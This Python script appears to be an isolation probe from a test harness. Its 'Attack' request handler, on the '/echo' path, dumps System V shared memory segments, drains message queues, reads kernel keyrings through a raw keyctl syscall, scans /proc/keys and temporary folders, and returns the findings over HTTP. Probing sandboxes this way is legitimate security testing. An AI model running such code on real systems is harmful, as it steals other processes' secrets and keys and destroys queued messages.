import probe
import server


class Attack(server.Broken):
    def answer(self):
        if self.path.startswith("/echo"):
            looked = probe.Probe()
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            for number in range(64):
                address = libc.shmat(number, None, 0o10000)
                if address not in (None, ctypes.c_void_p(-1).value):
                    looked.see("segments", ctypes.string_at(address, 4096))
                buffer = ctypes.create_string_buffer(8192)
                if libc.msgrcv(number, buffer, 8000, 0, 0o4000) > 0:
                    looked.see("queues", buffer.raw)
                looked.count("asked")
            for folder in ("/dev/shm", "/dev/mqueue", "/run", "/var/run", "/var/tmp", "/tmp", "/dev"):
                looked.tree(folder)
            for line in ("/proc/keys", "/proc/key-users", "/proc/sysvipc/shm", "/proc/sysvipc/msg"):
                looked.file(line, "proc")
            for keyring in range(-8, 0):
                looked.count("keys", max(0, libc.syscall(250, 11, keyring, buffer, 8192, 0)))
            print(looked.report(), flush=True)
            return self.reply(200, looked.report())
        self.reply(200, {})


server.serve(Attack)
